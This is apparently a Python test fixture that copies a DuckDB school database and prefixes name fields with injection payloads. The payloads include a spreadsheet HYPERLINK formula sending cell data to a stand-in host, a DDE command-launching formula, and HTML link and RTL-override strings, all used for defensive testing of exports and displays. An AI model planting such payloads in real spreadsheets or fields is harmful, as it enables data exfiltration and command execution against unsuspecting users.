"""The program's database, where districts, schools and people bear names that are traps."""

from __future__ import annotations

import shutil
from pathlib import Path

import duckdb

# Each begins a name: formulas of a spreadsheet, markup of a chart, a color's role, signs that turn
# the text around them, and so long a name that no place has room for it.
TRAPS = (
    '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A1 ",
    "-2+3 ",
    "@cmd/x ",
    "\t=1+1 ",
    "\r=1+1 ",
    "\uff1d1+1 ",
    '<a href="//elsewhere.example">link</a> ',
    "<b>bold</b><br>& &amp; ",
    "\u202e",
    "\x07",
    "very long " * 40,
)
_NAMES = (
    "district_name",
    "school_name",
    "first_name",
    "last_name",
    "visitor",
    "language",
    "home_language",
    "file",
)


def with_hostile_names(database: Path, copy: Path) -> str:
    """A copy of a database whose names all begin with a trap; its address."""
    shutil.copyfile(database, copy)
    with duckdb.connect(str(copy)) as connection:
        connection.execute("CREATE TEMP TABLE trap (number INTEGER, words TEXT)")
        connection.executemany("INSERT INTO trap VALUES (?, ?)", list(enumerate(TRAPS)))
        columns = connection.execute(
            "SELECT table_name, column_name FROM information_schema.columns "
            f"WHERE table_schema = 'main' AND column_name IN {_NAMES}"
        ).fetchall()
        for table, column in columns:
            connection.execute(
                f'UPDATE "{table}" SET "{column}" = trap.words || "{column}" '  # noqa: S608
                f'FROM trap WHERE trap.number = hash("{column}") % {len(TRAPS)}'
            )
    return f"duckdb:///{copy}"
